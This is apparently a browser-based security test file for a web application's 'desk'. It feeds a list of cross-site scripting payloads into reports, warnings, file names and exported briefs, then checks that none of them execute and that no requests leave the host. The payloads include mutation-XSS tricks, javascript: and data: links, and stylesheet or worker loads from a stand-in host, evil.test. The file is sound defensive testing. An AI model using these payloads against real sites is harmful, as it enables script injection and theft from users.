/**
 * Attack row A10: what sources and people write is shown by the real desk in a real browser, and none of it runs.
 *
 * The policies are switched on as they are for everybody; a script that did run would call `stolen`.
 */
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { FastifyInstance } from "fastify";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makeServer } from "../src/api/server.ts";
import { buildDesk, DESK_FOLDER } from "../src/app/desk-build.ts";
import { Report } from "../src/kernel/report.ts";
import { Warning } from "../src/kernel/warning.ts";
import { derivedId } from "../src/store/identity.ts";
import { type Browser, openBrowser } from "./desk-rig.ts";
import { type ServedDesk, serveSmallDesk, upload } from "./served-desk.ts";
import { GREEN, IDS, warning } from "./small-desk.ts";

const PAYLOADS = [
  "<script>stolen()</script>",
  "<img src=x onerror=stolen()>",
  "<svg onload=stolen()><animate onbegin=stolen() attributeName=x dur=1s></svg>",
  "<svg><a xlink:href='javascript:stolen()'><text y=20>press</text></a></svg>",
  "<math><maction actiontype='statusline' xlink:href='javascript:stolen()'>press</maction></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=stolen()&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=stolen()>'>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=stolen() src>'>",
  "[press](javascript:stolen())",
  "[press](data:text/html;base64,PHNjcmlwdD5zdG9sZW4oKTwvc2NyaXB0Pg==)",
  '![x](x"onerror=stolen())',
  "<style>@import 'http://evil.test/x.css'; body{background:url(http://evil.test/x)}</style>",
  "<link rel=stylesheet href=http://evil.test/x.css><base href=http://evil.test/>",
  "<iframe srcdoc='<script>parent.stolen()</script>'></iframe><object data='javascript:stolen()'></object>",
  "<meta http-equiv=refresh content='0;url=javascript:stolen()'>",
  "{{constructor.constructor('stolen()')()}} $\u007bstolen()} #{stolen()}",
  "\u202e<scr\u00adipt>stolen()</scr\u00adipt>",
  "javascript:stolen()//'\"`><details open ontoggle=stolen()>",
];

let desk: ServedDesk;
let server: FastifyInstance;
let browser: Browser;
let page: Page;
let address: string;
const ran: string[] = [];
const requests: string[] = [];
/** What the browser told the desk of what its policies stopped. */
const reports: string[] = [];
const complaints: string[] = [];

beforeAll(async () => {
  await buildDesk();
  desk = await serveSmallDesk();
  await furnishWithAttacks();
  server = await makeServer({ system: desk.system, live: desk.live, deskFolder: DESK_FOLDER });
  address = await server.listen({ host: "127.0.0.1", port: 0 });
  browser = await openBrowser({ width: 1280, height: 800, theme: "light", address });
  page = browser.page;
  page.setDefaultTimeout(20_000);
  await page.exposeFunction("stolen", () => ran.push(page.url()));
  await page.addInitScript({ content: `localStorage.setItem("presage.tour", "done")` });
  page.on("request", (request) => {
    requests.push(request.url());
    if (request.url().endsWith("/csp-report")) reports.push(request.postData() ?? "");
  });
  page.on("dialog", (dialog) => {
    ran.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("console", (message) => {
    if (message.type() === "error") complaints.push(message.text());
  });
  page.on("pageerror", (error) => complaints.push(error.message));
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await desk?.close();
});

async function furnishWithAttacks(): Promise<void> {
  const { store } = desk.system;
  const { body: template } = await store.systemView().one(Report, IDS.dispatch);
  await store.writer("attacker").transaction(async (transaction) => {
    await transaction.put(
      Report,
      PAYLOADS.map((payload, n) => ({
        id: reportId(n),
        label: GREEN,
        body: {
          ...template,
          nativeId: `attack ${n}`,
          title: payload,
          text: `${payload}\n\n${payload}`,
          url: "https://example.org/",
        },
      })),
    );
    await transaction.put(
      Warning,
      PAYLOADS.map((payload, n) => ({
        id: warningId(n),
        label: GREEN,
        body: { ...warning(payload, 0.31 + n / 50), title: payload, subject: `attack ${n}`, event: payload },
      })),
    );
  });
  const files = PAYLOADS.map((payload, n) => ({
    name: `${payload.replaceAll(/["\r\n]/g, "'")}${n}.md`,
    bytes: `# ${payload}\n\n${payload}\n`,
  }));
  expect((await desk.server.inject(upload(files))).statusCode).toBe(200);
  await desk.system.phases.settle();
  const draft = (await desk.post("/api/draft-assessment", { warningId: warningId(0) })).json();
  const statements = draft.body.statements.map((one: object, n: number) => ({
    ...one,
    text: PAYLOADS[n % PAYLOADS.length],
    machine: false,
  }));
  const saved = await desk.post("/api/save-assessment", {
    id: draft.id,
    version: draft.version,
    body: { ...draft.body, title: PAYLOADS[1], statements },
  });
  expect([saved.statusCode, saved.body.slice(0, 300)]).toEqual([200, expect.anything()]);
  const made = await desk.post("/api/make-brief", { title: PAYLOADS[2] });
  expect([made.statusCode, made.body.slice(0, 300)]).toEqual([200, expect.anything()]);
}

function reportId(n: number): string {
  return derivedId("report", `attack ${n}`);
}

function warningId(n: number): string {
  return derivedId("warning", `attack ${n}`);
}

async function visit(path: string): Promise<void> {
  await page.goto(path);
  await page.locator("h1").first().waitFor({ state: "attached" });
  await expect.poll(() => page.locator(".bone").count(), { timeout: 20_000 }).toBe(0);
}

describe("hostile texts", () => {
  it("are shown as text on every page, in every detail, and as file names", async () => {
    const pages = [
      "/",
      "/?list=changed",
      "/?list=incidents",
      "/inbox",
      "/warnings",
      "/forecasts",
      "/assessments",
      "/briefs",
      "/runs",
      "/track-record",
    ];
    for (const path of pages) await visit(path);
    for (const n of PAYLOADS.keys()) {
      await visit(`/inbox?id=${reportId(n)}`);
      if (n % 3 === 0) await visit(`/warnings?id=${warningId(n)}`);
    }
    const shown = await page.locator("body").innerText();
    expect(shown).toContain("javascript:stolen()");
    await visit(`/inbox?id=${reportId(0)}&evidence=report:${reportId(1)}`);
    for (const link of await page.locator("main a[href]").all())
      expect(await link.getAttribute("href")).not.toMatch(/^\s*(javascript|data|vbscript):/i);
    expect(ran).toEqual([]);
  }, 400_000);

  it("stay text in the map's readings and marks", async () => {
    await visit("/?country=XXA");
    const map = page.locator(".map-canvas canvas").first();
    await map.waitFor();
    await map.hover();
    await map.click();
    expect(ran).toEqual([]);
  }, 60_000);

  it("run in no exported brief, wherever it is opened", async () => {
    const { items } = (await desk.read("/api/briefs")).json();
    expect(items.length).toBeGreaterThan(0);
    for (const { id } of items) {
      const { body } = await desk.read(`/api/briefs/${id}.html`);
      expect(body).not.toMatch(/<script|<iframe|<object|\son\w+\s*=[^<]*>/i);
      const file = join(desk.system.config.data, `${id}.html`);
      await writeFile(file, body);
      const before = requests.length;
      await page.goto(`file://${file}`);
      expect(requests.slice(before).filter((url) => !url.startsWith("file:"))).toEqual([]);
      const pdf = (await desk.read(`/api/briefs/${id}.pdf`)).rawPayload.toString("latin1");
      expect(pdf).not.toMatch(/\/(JavaScript|JS|Launch|EmbeddedFile)\b/);
      expect(pdf).not.toMatch(/\/URI\s*\(\s*(javascript|data):/i);
    }
    expect(ran).toEqual([]);
  }, 60_000);

  it("made no page ask another host for anything, and no policy had to stop anything", async () => {
    const foreign = requests.filter(
      (url) => !url.startsWith(`${address}/`) && !/^(data|file|blob):/.test(url),
    );
    expect(requests.length).toBeGreaterThan(100);
    expect(foreign).toEqual([]);
    expect(reports).toEqual([]);
    expect(complaints).toEqual([]);
  });
});

/** What a mistake of ours could do with a text, each way by itself. */
const TRIES = `Object.entries({
  html: () => { document.createElement("div").innerHTML = "<img src=x onerror=stolen()>"; },
  address: () => new Worker("data:text/javascript,0"),
  foreign: () => new Worker("https://evil.test/assets/x.js"),
  text: () => { document.createElement("script").text = "stolen()"; },
  policy: () => trustedTypes.createPolicy("other", {}),
}).map(([name, attempt]) => {
  try { attempt(); return name + " ran"; } catch { return name + " stopped"; }
})`;

describe("the browser itself", () => {
  it("stops what would have run had it come into a page, and reports it", async () => {
    await visit("/warnings");
    const outcome = await page.evaluate(TRIES);
    expect(outcome).toEqual([
      "html stopped",
      "address stopped",
      "foreign stopped",
      "text stopped",
      "policy stopped",
    ]);
    await expect.poll(() => reports.length, { timeout: 20_000 }).toBeGreaterThanOrEqual(3);
    expect(ran).toEqual([]);
  }, 60_000);

  it("does not let another page frame the desk", async () => {
    const framed = await page.context().newPage();
    const file = join(desk.system.config.data, "frame.html");
    await writeFile(file, `<iframe id="desk" src="${address}/"></iframe>`);
    await framed.goto(`file://${file}`);
    await framed.waitForLoadState("networkidle");
    expect(await framed.frameLocator("#desk").locator("#desk").count()).toBe(0);
    await framed.close();
  }, 60_000);
});
